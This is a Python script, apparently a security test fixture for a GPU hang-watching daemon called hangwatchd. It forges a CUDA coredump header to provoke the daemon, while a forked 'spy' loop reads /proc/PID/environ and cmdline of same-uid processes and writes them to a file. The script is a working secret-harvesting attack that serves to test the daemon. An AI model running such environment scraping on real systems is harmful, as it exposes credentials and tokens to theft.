"""An attacker's own job, under ``hangwatchd run``: a GPU exception of its own making, and a spy that
reads the environment of every new process of its uid (what any user may do with their own processes).

    python3 env_spy.py OUT

It forks the spy, beats, then, from a Python function named ``synchronize``, writes a CUDA
coredump's ELF header into the exception FIFO the daemon made for it (``CUDA_COREDUMP_FILE``) and
stalls there, as the driver does. The daemon takes its stacks and reads the line of code it stalls
at with a helper that runs as this uid: the spy appends each process's command line and
environment to OUT ("PID\\0cmdline\\0\\0environ\\n----\\n").
"""
import os
import struct
import sys
import threading
import time

import hangwatchd

out = sys.argv[1]
me = os.getuid()
mine = {os.getpid(), os.getppid()}


def spy() -> None:
    seen = set(mine) | {os.getpid()}
    end = time.monotonic() + 300
    while time.monotonic() < end:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in seen:
                continue
            pid = int(name)
            try:
                if os.stat(f"/proc/{pid}").st_uid != me:
                    seen.add(pid)
                    continue
                env = open(f"/proc/{pid}/environ", "rb").read()
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                continue
            if cmd:  # a process past its exec
                seen.add(pid)
                with open(out, "ab") as f:
                    f.write(b"%d\0%s\0\0%s\n----\n" % (pid, cmd, env))


if os.fork() == 0:
    try:
        spy()
    finally:
        os._exit(0)

HEADER = bytearray(64)
HEADER[:6] = b"\x7fELF\x02\x01"
struct.pack_into("<HH", HEADER, 16, 4, 190)  # ET_CORE, EM_CUDA: a CUDA coredump's first bytes


def synchronize() -> None:  # where a GPU error surfaces, as a stack shows it
    fd = os.open(os.environ["CUDA_COREDUMP_FILE"].replace("%p", str(os.getpid())), os.O_WRONLY)
    os.write(fd, bytes(HEADER))
    threading.Event().wait()  # the driver's thread waits for the daemon to read the rest


for _ in range(3):
    hangwatchd.beat()
    time.sleep(0.2)
synchronize()
